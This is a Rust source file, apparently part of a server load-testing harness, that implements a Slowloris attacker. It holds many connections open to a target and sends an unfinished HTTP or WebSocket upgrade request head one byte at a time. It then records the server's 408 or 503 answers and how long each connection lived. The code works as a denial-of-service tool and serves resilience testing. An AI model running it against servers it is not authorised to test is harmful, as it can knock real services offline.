//! Slowloris: connections that send a request head one byte at a time and
//! never end it, kept at their number while the attack is on; what the
//! server answered and how long each lived.

use std::io::{self, Read, Write};
use std::net::SocketAddr;

use comet::Transport;
use mio::net::TcpStream;
use mio::{Interest, Token};

use super::socket::open_socket;
use super::Worker;
use crate::clock::mono_ns;

/// A slowloris connection.
pub(super) struct Attacker {
    stream: TcpStream,
    started_ns: u64,
    connected: bool,
    /// Bytes of the head sent so far (then `a` forever).
    sent: usize,
    next_byte_ns: u64,
    answer: Vec<u8>,
}

/// Tokens of attackers start here; subscribers' are their slab keys.
pub(super) const ATTACK_BASE: usize = 1 << 40;

impl Worker {
    pub(super) fn set_attack(&mut self, on: bool, now: u64) {
        self.attack_on = on;
        if on {
            return;
        }
        let keys: Vec<usize> = self.attackers.iter().map(|(k, _)| k).collect();
        for key in keys {
            let mut a = self.attackers.remove(key);
            let _ = self.poll.registry().deregister(&mut a.stream);
            let f = &mut self.report.fault;
            f.attackers_open_at_stop += 1;
            f.attacker_oldest_at_stop_us = f
                .attacker_oldest_at_stop_us
                .max(now.saturating_sub(a.started_ns) / 1000);
        }
    }

    /// Keeps the attackers' number up and sends each its next byte when due.
    pub(super) fn attack(&mut self, now: u64) {
        if !self.attack_on {
            return;
        }
        let mut opened = 0;
        while self.attackers.len() < self.plan.fault.attackers && opened < 100 {
            opened += 1;
            let source = self.plan.sources
                [self.report.fault.attackers_started as usize % self.plan.sources.len()];
            self.report.fault.attackers_started += 1;
            match open_socket(self.plan.target, source) {
                Ok(mut stream) => {
                    let entry = self.attackers.vacant_entry();
                    if self
                        .poll
                        .registry()
                        .register(
                            &mut stream,
                            Token(ATTACK_BASE + entry.key()),
                            Interest::READABLE | Interest::WRITABLE,
                        )
                        .is_err()
                    {
                        self.report.fault.attackers_refused += 1;
                        continue;
                    }
                    entry.insert(Attacker {
                        stream,
                        started_ns: now,
                        connected: false,
                        sent: 0,
                        next_byte_ns: now,
                        answer: Vec::new(),
                    });
                }
                Err(_) => self.report.fault.attackers_refused += 1,
            }
        }
        let path = self
            .plan
            .fault
            .attack_path
            .replace("{transport}", self.transport.name());
        let head = attack_head(&path, &self.plan.target, self.transport);
        let interval = self.plan.fault.byte_interval_ms.max(1) * 1_000_000;
        let mut gone = Vec::new();
        for (key, a) in self.attackers.iter_mut() {
            if !a.connected || a.next_byte_ns > now {
                continue;
            }
            let byte = head.get(a.sent).copied().unwrap_or(b'a');
            match a.stream.write(&[byte]) {
                Ok(_) => {
                    a.sent += 1;
                    a.next_byte_ns = now + interval;
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
                Err(_) => gone.push(key),
            }
        }
        for key in gone {
            self.attacker_closed(key, now);
        }
    }

    pub(super) fn handle_attacker(&mut self, key: usize) {
        let now = mono_ns();
        let Some(a) = self.attackers.get_mut(key) else {
            return;
        };
        if !a.connected {
            match a.stream.take_error() {
                Ok(Some(_)) | Err(_) => return self.attacker_refused(key),
                Ok(None) => {}
            }
            match a.stream.peer_addr() {
                Ok(_) => {
                    a.connected = true;
                    let _ = self.poll.registry().reregister(
                        &mut a.stream,
                        Token(ATTACK_BASE + key),
                        Interest::READABLE,
                    );
                }
                Err(e) if e.raw_os_error() == Some(libc::ENOTCONN) => return,
                Err(_) => return self.attacker_refused(key),
            }
        }
        let mut buf = [0u8; 512];
        loop {
            let Some(a) = self.attackers.get_mut(key) else {
                return;
            };
            match a.stream.read(&mut buf) {
                Ok(0) => return self.attacker_closed(key, now),
                Ok(n) => {
                    let room = 256usize.saturating_sub(a.answer.len());
                    a.answer.extend_from_slice(&buf[..n.min(room)]);
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => return,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                Err(_) => return self.attacker_closed(key, now),
            }
        }
    }

    fn attacker_refused(&mut self, key: usize) {
        if let Some(mut a) = self.attackers.try_remove(key) {
            let _ = self.poll.registry().deregister(&mut a.stream);
            self.report.fault.attackers_refused += 1;
        }
    }

    /// The server ended attacker `key`: how long it lived, and what it said.
    fn attacker_closed(&mut self, key: usize, now: u64) {
        let Some(mut a) = self.attackers.try_remove(key) else {
            return;
        };
        let _ = self.poll.registry().deregister(&mut a.stream);
        let f = &mut self.report.fault;
        let status = std::str::from_utf8(a.answer.get(9..12).unwrap_or_default()).unwrap_or("");
        if a.answer.starts_with(b"HTTP/1.1 503") || !a.connected {
            f.attackers_refused += 1;
            return;
        }
        f.attackers_closed += 1;
        match status {
            "408" => f.attackers_408 += 1,
            "" => {}
            _ => f.attackers_other_answer += 1,
        }
        let _ = self
            .attacker_life
            .record((now.saturating_sub(a.started_ns) / 1000).max(1));
    }
}

/// The head an attacker sends one byte at a time; it never ends (`a` follows
/// for ever), so only the server's header deadline ends it. Over WebSocket
/// it is an upgrade's: the slowloris of the handshake.
fn attack_head(path: &str, target: &SocketAddr, transport: Transport) -> Vec<u8> {
    let upgrade = if transport == Transport::Ws {
        comet::ws::client::upgrade_lines(comet::ws::client::SAMPLE_KEY)
    } else {
        String::new()
    };
    format!("GET {path} HTTP/1.1\r\nHost: {target}\r\n{upgrade}X-Slowloris: ").into_bytes()
}
